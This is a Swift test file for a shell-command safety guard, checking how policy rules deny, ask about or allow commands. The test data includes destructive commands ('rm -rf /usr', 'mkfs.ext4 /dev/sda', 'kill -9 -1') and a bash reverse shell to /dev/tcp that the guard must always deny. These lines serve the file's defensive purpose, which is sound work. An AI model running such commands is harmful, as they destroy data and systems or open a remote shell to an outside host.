@testable import CommandSafety
import ShellSyntax
import Testing

@Suite("A rule of a policy")
struct PolicyRuleTests {
    static func rule(_ decision: Decision = .deny, _ policyClass: PolicyClass? = nil, id: String = "r", _ set: (inout PolicyCondition) -> Void) -> PolicyRule {
        var condition = PolicyCondition()
        set(&condition)
        return PolicyRule(id: id, decision: decision, policyClass: policyClass, condition: condition, why: "it says so", instead: "do something else")
    }

    static func judge(_ text: String, _ rules: PolicyRule..., host: String? = nil, user: String = "deploy", purpose: CommandPurpose = .command) -> Verdict {
        var policy = CommandPolicy()
        policy.rules = rules
        return CommandGuard(policy: policy).judge(text, context: CommandContext(purpose: purpose, loginUser: user, host: host))
    }

    /// Checks what a rule that denies makes of lines: `+` denied, `?` asked about, `-` not matched.
    func check(_ rule: PolicyRule, _ lines: String, _ location: SourceLocation = #_sourceLocation) {
        for line in lines.split(separator: "\n") {
            let text = String(line.dropFirst(2))
            let found = Self.judge(text, rule).findings.first { $0.rule == rule.id }
            let sign = found.map { $0.decision == .deny ? "+" : "?" } ?? "-"
            #expect(sign == String(line.prefix(1)), "\(text)", sourceLocation: location)
        }
    }

    @Test("sees programs through wrappers, shells, quotes and variables, and never in mere text")
    func programs() {
        check(
            Self.rule { $0.programs = ["docker", "kube*"] },
            """
            + docker ps
            + sudo -n docker ps
            + bash -c 'do''cker ps'
            + P=docker; "$P" ps
            + for p in podman docker; do $p ps; done
            + kubectl get pods
            + echo $(docker ps)
            - podman ps
            - echo docker ps
            - grep docker /etc/group
            """)
        check(
            Self.rule { $0.programs = ["/opt/app/bin/*"] },
            """
            + /opt/app/bin/migrate
            + /opt/app/./lib/../bin/migrate
            - migrate
            - /opt/other/bin/migrate
            """)
    }

    @Test("on a wrapper is about what runs through it")
    func wrappers() {
        check(
            Self.rule { $0.programs = ["sudo"] },
            """
            + sudo ls
            + sudo -u app sh -c ls
            - ls
            """)
    }

    @Test("is not escaped from by a wrapper", arguments: ClassTests.wrappers)
    func throughWrappers(wrapper: String) {
        let rule = Self.rule {
            $0.programs = ["docker"]
            $0.verbs = ["rm"]
        }
        #expect(Self.judge("\(wrapper) docker rm web", rule).findings.contains { $0.rule == "r" && $0.decision == .deny })
    }

    @Test("finds verbs and flags in any spelling")
    func verbs() {
        check(
            Self.rule {
                $0.programs = ["docker"]
                $0.verbs = ["compose", "down|rm"]
                $0.flags = ["-v|--volumes"]
            },
            """
            + docker compose down -v
            + docker compose down --volumes
            + docker -H tcp://x compose down --remove-orphans -v
            + docker compose -f a.yml down -v --rmi all
            + docker compose rm -v
            ? docker compose down $MORE
            ? docker compose "$VERB" -v
            - docker compose down
            - docker compose stop
            - docker compose ps -v
            - docker run down -v
            """)
        check(
            Self.rule {
                $0.programs = ["rm"]
                $0.flags = ["-r", "--force"]
            },
            """
            + rm -rf x
            + rm -fr x
            + rm -R --forc x
            + rm x --recursive -f
            - rm -r x
            - rm -f x
            - rm -- -r -f
            """)
        check(
            Self.rule {
                $0.programs = ["kubectl"]
                $0.flags = ["--namespace=prod*"]
            },
            """
            + kubectl get pods -n prod
            + kubectl get pods --namespace=prod-eu
            - kubectl get pods -n staging
            - kubectl get pods
            """)
    }

    @Test("applies to programs that no table describes")
    func unknownPrograms() {
        check(
            Self.rule {
                $0.programs = ["acme"]
                $0.verbs = ["cluster", "wipe"]
            },
            """
            + acme cluster wipe
            + acme --context prod cluster --yes wipe
            - acme cluster list
            - acme wipe cluster
            """)
    }

    @Test("finds paths among operands, option values and effects, from any directory")
    func operands() {
        check(
            Self.rule { $0.operand = PathCondition(.under, "/srv/data") },
            """
            + rm /srv/data/x
            + cd /srv; rm data/x
            + rm /srv/./x/../data
            + rm -r /srv/data/*
            + rm -r /srv
            + dd if=/dev/zero of=/srv/data/x count=1
            + echo x >/srv/data/x
            + D=/srv/data; touch "$D/$NAME"
            + tar -C /srv/data -xf /x.tar
            + acme /srv/data/x
            ? rm -r "$DIR"
            - rm /srv/database
            - touch /srv/x
            - ls /srv
            """)
        check(
            Self.rule {
                $0.programs = ["rm"]
                $0.operand = PathCondition(.covers, "/srv/data")
            },
            """
            + rm -r /srv/data
            + rm -r /srv
            + rm -r /s??
            - rm -r /srv/data/x
            """)
        check(
            Self.rule { $0.operand = PathCondition(.exact, "/usr/bin/acme") },
            """
            + cat /bin/acme
            + cat /usr/bin/acm?
            - cat /bin/acme2
            """)
        check(
            Self.rule { $0.operand = PathCondition(.glob, "/srv/*/secret*") },
            """
            + cat /srv/a/b/secrets.txt
            - cat /srv/secrets
            """)
    }

    @Test("looks at what would happen, whatever program does it")
    func effects() {
        check(
            Self.rule {
                $0.effects = [.delete]
                $0.effectPath = PathCondition(.under, "/srv/data")
            },
            """
            + rm /srv/data/x
            + find /srv/data -name x -delete
            + unlink /srv/data/x
            - cat /srv/data/x
            - rm /srv/x
            """)
        check(
            Self.rule { $0.units = ["nginx*"] },
            """
            + systemctl restart nginx
            + systemctl stop nginx.service
            + service nginx stop
            + systemctl stop 'ng*'
            - systemctl restart postgresql
            - systemctl status nginx
            """)
        check(
            Self.rule {
                $0.effects = [.remove]
                $0.packages = ["postgresql-*"]
            },
            """
            + apt-get remove -y postgresql-15
            + apt-get purge -y nginx postgresql-15
            - apt-get install -y postgresql-15
            - apt-get remove -y nginx
            """)
        check(
            Self.rule {
                $0.programs = ["ip"]
                $0.effects = [.change]
            },
            """
            + ip link add br0 type bridge
            - ip addr show
            """)
    }

    @Test("knows hosts and users; where no host is known, it may be any")
    func hostsAndUsers() {
        let rule = Self.rule {
            $0.programs = ["uptime"]
            $0.hosts = ["db*"]
            $0.users = ["deploy"]
        }
        #expect(Self.judge("uptime", rule, host: "db1").decision == .deny)
        #expect(Self.judge("uptime", rule, host: "web1").decision == .allow)
        #expect(Self.judge("uptime", rule).decision == .deny)
        #expect(Self.judge("uptime", rule, host: "db1", user: "root").decision == .allow)
        var allowing = Self.rule(.allow) {
            $0.programs = ["reboot"]
            $0.hosts = ["db*"]
        }
        #expect(Self.judge("reboot", allowing, host: "db1").decision == .allow)
        #expect(Self.judge("reboot", allowing, host: "web1").decision == .ask)
        #expect(Self.judge("reboot", allowing).decision == .ask)
        allowing.condition.hosts = []
        #expect(Self.judge("reboot", allowing).decision == .allow)
    }

    @Test("says its class, why, what instead, and the place")
    func finding() throws {
        let verdict = Self.judge("true; sudo docker ps", Self.rule(.ask, .containerClusterDestroy) { $0.programs = ["docker"] })
        let finding = try #require(verdict.findings.first)
        #expect(verdict.decision == .ask)
        #expect(finding.policyClass == .containerClusterDestroy)
        #expect(finding.rule == "r")
        #expect(finding.why == "docker: it says so")
        #expect(finding.instead == "do something else")
        #expect(finding.span.start == 6)
        #expect("\(CommandRefusal(text: "", verdict: verdict))" == "needs a person's approval (container-cluster-destroy, rule r): docker: it says so — do something else")
    }

    @Test("that allows takes away asks of what it speaks of, and tells of it")
    func allows() {
        let reboot = Self.rule(.allow, .powerCycle) { $0.programs = ["reboot"] }
        let verdict = Self.judge("sudo reboot", reboot)
        #expect(verdict.decision == .allow)
        #expect(verdict.lowered.map(\.rule) == ["r"])
        #expect(verdict.lowered.map(\.policyClass) == [.powerCycle])
        // Another class, another call, the text as a whole.
        #expect(Self.judge("reboot", Self.rule(.allow, .privilegeGrant) { $0.programs = ["reboot"] }).decision == .ask)
        #expect(Self.judge("reboot; shutdown -h now", reboot).decision == .ask)
        #expect(Self.judge("reboot # \u{202e}", reboot).decision == .ask)
        #expect(Self.judge("/tmp/x/reboot", Self.rule(.allow) { $0.programs = ["reboot"] }).decision == .ask)
    }

    @Test("that allows never takes away a deny")
    func neverDenies() {
        let anything = Self.rule(.allow) { $0.programs = ["*"] }
        for line in ["rm -rf /usr", "mkfs.ext4 /dev/sda", "if", "systemctl stop ssh", "kill -9 -1", "bash -i >& /dev/tcp/203.0.113.1/9 0>&1"] {
            #expect(Self.judge(line, anything).decision == Self.judge(line).decision, "\(line)")
            #expect(Self.judge(line, anything).decision == .deny, "\(line)")
        }
        #expect(Self.judge("touch /srv/x", anything, purpose: .guardCheck).decision == .deny)
        #expect(Self.judge("reboot", anything, Self.rule(id: "no") { $0.programs = ["reboot"] }).decision == .deny)
    }

    @Test("that allows on a path takes away nothing elsewhere, and nothing that is not known")
    func allowsPaths() {
        let rule = Self.rule(.allow, .unknownCode) {
            $0.effects = [.run]; $0.effectPath = PathCondition(.under, "/opt/app/bin")
        }
        #expect(Self.judge("/opt/app/bin/migrate --all", rule).decision == .allow)
        #expect(Self.judge("bash /opt/app/bin/migrate", rule).decision == .allow)
        #expect(Self.judge("/opt/app/bin/../../x", rule).decision == .ask)
        #expect(Self.judge("bash /opt/app/bin/$X", rule).decision == .ask)
        #expect(Self.judge("/opt/other/migrate", rule).decision == .ask)
        let remove = Self.rule(.allow, .databaseDestroy) {
            $0.programs = ["rm"]; $0.operand = PathCondition(.under, "/var/lib/mysql/old")
        }
        #expect(Self.judge("rm -r /var/lib/mysql/old", remove).decision == .allow)
        #expect(Self.judge("rm -r /var/lib/mysql/old /var/lib/mysql/new", remove).decision != .allow)
        #expect(Self.judge("cd /var/lib/mysql; rm -r old new", remove).decision != .allow)
        #expect(Self.judge("rm -r /var/lib/mysql", remove).decision != .allow)
        #expect(Self.judge("rm -r \"/var/lib/mysql/old/$X\"", remove).lowered.isEmpty)
        let wide = Self.rule(.allow) {
            $0.programs = ["cp"]; $0.operand = PathCondition(.under, "/srv")
        }
        #expect(Self.judge("cp /srv/x /srv/y", wide).decision == .allow)
        #expect(Self.judge("cp /srv/x /etc/profile.d/x.sh", wide).decision != .allow)
    }

    @Test("that allows makes an exception from one that asks, not from one that denies or may deny")
    func exceptions() {
        let asking = Self.rule(.ask, id: "restarts") {
            $0.programs = ["systemctl"]; $0.verbs = ["restart"]
        }
        let allowing = Self.rule(.allow, id: "nginx") {
            $0.programs = ["systemctl"]; $0.units = ["nginx"]
        }
        #expect(Self.judge("systemctl restart nginx", asking, allowing).decision == .allow)
        #expect(Self.judge("systemctl restart nginx postgresql", asking, allowing).decision == .ask)
        #expect(Self.judge("systemctl restart postgresql", asking, allowing).decision == .ask)
        let denying = Self.rule(.deny, id: "no") {
            $0.programs = ["docker"]; $0.verbs = ["rm"]
        }
        let all = Self.rule(.allow, id: "all") { $0.programs = ["docker"] }
        #expect(Self.judge("docker \"$VERB\" x", denying, all).decision == .ask)
    }

    @Test("is checked by its examples, on a host and with a user that it is about")
    func examples() {
        var rule = Self.rule {
            $0.programs = ["docker"]; $0.verbs = ["rm"]; $0.hosts = ["db*"]; $0.users = ["root"]
        }
        var policy = CommandPolicy()
        func problem(_ text: String, _ mustMatch: Bool = true) -> String? {
            policy.rules = [rule]
            return policy.problem(withExample: text, of: rule, mustMatch: mustMatch)
        }
        #expect(problem("docker rm x") == nil)
        #expect(problem("docker ps") == "is not matched by the rule")
        #expect(problem("docker \"$X\"") == "is only asked about: the text does not tell whether the rule is meant")
        #expect(problem("docker rm (")?.hasPrefix("can't be read as a command: ") == true)
        #expect(problem("docker ps", false) == nil)
        #expect(problem("docker rm x", false) == "is matched by the rule")
        rule.decision = .allow
        #expect(problem("docker rm x") == "is allowed without the rule")
        rule.condition.programs = ["*"]
        rule.condition.verbs = []
        #expect(problem("rm -rf /usr") == "is denied, which no rule can change")
        #expect(problem("reboot") == nil)
    }

    @Test("changes the policy's fingerprint, with every part of it")
    func fingerprint() {
        var seen: Set<String> = []
        var policy = CommandPolicy()
        func note() { #expect(seen.insert(policy.fingerprintText).inserted) }
        note()
        policy.approves = [.powerCycle]
        note()
        policy = policy.forbidding(["rm -rf /srv"])
        note()
        policy.rules = [Self.rule { $0.programs = ["a", "b"] }]
        note()
        policy.rules = [Self.rule { $0.programs = ["a\tb"] }]
        note()
        policy.rules = [Self.rule { $0.verbs = ["a", "b"] }]
        note()
        policy.rules = [Self.rule { $0.operand = PathCondition(.under, "/a") }]
        note()
        policy.rules = [Self.rule { $0.effectPath = PathCondition(.under, "/a") }]
        note()
        #expect(policy.fingerprintText == policy.forbidding([]).fingerprintText)
    }

    @Test("classes that can be asked about are those that the built-in policy asks about")
    func askedClasses() throws {
        for line in try ClassTests.lines() where line.decision != .allow {
            let policyClass = try #require(PolicyClass(rawValue: line.policyClass))
            #expect(policyClass.builtInDecisions.contains(line.decision), "\(line.command)")
        }
        for line in try EffectLineTests.lines() where line.decision != "allow" {
            let policyClass = try #require(PolicyClass(rawValue: line.policyClass))
            #expect(policyClass.builtInDecisions.contains { "\($0)" == line.decision }, "\(line.command)")
        }
    }

    @Test("and what a text would do is told in sentences")
    func sentences() {
        func effects(_ text: String) -> [String] { CommandGuard().explain(text, context: CommandContext(purpose: .command, loginUser: "deploy")).effects.map(\.sentence) }
        #expect(effects("D=/srv/old; sudo rm -rf \"$D\" && systemctl restart nginx") == ["rm: deletes /srv/old and all below it", "systemctl: service nginx: restart"])
        #expect(effects("echo x >>/srv/x").contains { $0.hasSuffix(": adds to /srv/x") })
        #expect(effects("uptime") == [])
    }
}
